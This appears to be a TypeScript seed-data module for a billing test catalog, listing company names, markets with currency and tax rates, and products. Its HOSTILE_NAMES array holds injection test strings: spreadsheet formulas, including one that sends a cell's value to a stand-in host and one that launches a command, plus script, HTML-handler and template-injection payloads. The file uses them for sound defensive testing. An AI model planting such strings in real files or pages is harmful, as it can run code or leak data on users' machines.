/*
 * The sample catalog seeding draws from: names (hostile ones included), markets with their
 * currency, tax and weight, and products. Plain data; the SQL lives in seed-billing-sql.ts.
 */

/** Text that must come out inert in every format: formula, HTML and template injection. */
export const HOSTILE_NAMES = [
  '=HYPERLINK("http://x.example/?q="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '\t=1+2 Tabs Ltd',
  '<script>alert(1)</script> Ltd',
  '<img src=x onerror=alert(1)> GmbH',
  '{{constructor.constructor "alert(1)"}} Templates Inc',
  'O\'Brien, "Quotes" & Sons\nLtd',
];
export const FIRST_WORDS = [
  'Acme',
  'Globex',
  'Initech',
  'Umbrella',
  'Hooli',
  'Vandelay',
  'Wonka',
  'Tyrell',
  'Soylent',
  'Nakatomi',
  'Müller & Söhne',
  'Société Lumière',
  'Fjørd',
  'Łódź',
  'Kōgyō',
  'São Paulo',
];
export const SECOND_WORDS = [
  'Analytics',
  'Logistics',
  'Foods',
  'Robotics',
  'Media',
  'Health',
  'Labs',
  'Energy',
  'Capital',
  'Systems',
];

// Markets by weight (20 slots); amounts are priced in USD cents and converted with fxPer100.
export const MARKETS = [
  {
    country: 'US',
    currency: 'USD',
    weight: 7,
    fxPer100: 100,
    taxBps: [0, 600, 725, 888],
    suffix: 'Inc',
  },
  { country: 'GB', currency: 'GBP', weight: 2, fxPer100: 80, taxBps: [2000], suffix: 'Ltd' },
  { country: 'DE', currency: 'EUR', weight: 2, fxPer100: 92, taxBps: [1900], suffix: 'GmbH' },
  { country: 'FR', currency: 'EUR', weight: 1, fxPer100: 92, taxBps: [2000], suffix: 'SAS' },
  { country: 'NL', currency: 'EUR', weight: 1, fxPer100: 92, taxBps: [2100], suffix: 'B.V.' },
  { country: 'IE', currency: 'EUR', weight: 1, fxPer100: 92, taxBps: [2300], suffix: 'Ltd' },
  { country: 'SE', currency: 'SEK', weight: 1, fxPer100: 1050, taxBps: [2500], suffix: 'AB' },
  {
    country: 'CA',
    currency: 'CAD',
    weight: 2,
    fxPer100: 135,
    taxBps: [500, 1300, 1500],
    suffix: 'Ltd',
  },
  { country: 'AU', currency: 'AUD', weight: 1, fxPer100: 150, taxBps: [1000], suffix: 'Pty Ltd' },
  { country: 'BR', currency: 'BRL', weight: 1, fxPer100: 500, taxBps: [1700], suffix: 'Ltda' },
  { country: 'IN', currency: 'INR', weight: 1, fxPer100: 8300, taxBps: [1800], suffix: 'Pvt Ltd' },
];
export const SLOTS = MARKETS.flatMap((m) => Array.from({ length: m.weight }, () => m));

export const PRODUCTS = [
  { description: 'Platform subscription', unitCents: 49900, minQty: 1, maxQty: 1 },
  { description: 'Additional seats', unitCents: 1500, minQty: 1, maxQty: 50 },
  { description: 'API requests (per 1,000)', unitCents: 40, minQty: 1, maxQty: 5000 },
  { description: 'Premium support', unitCents: 29900, minQty: 1, maxQty: 1 },
  { description: 'Storage (GB-month)', unitCents: 25, minQty: 10, maxQty: 2000 },
  { description: 'Professional services (hours)', unitCents: 15000, minQty: 1, maxQty: 20 },
  { description: 'Email sends (per 1,000)', unitCents: 90, minQty: 1, maxQty: 500 },
];
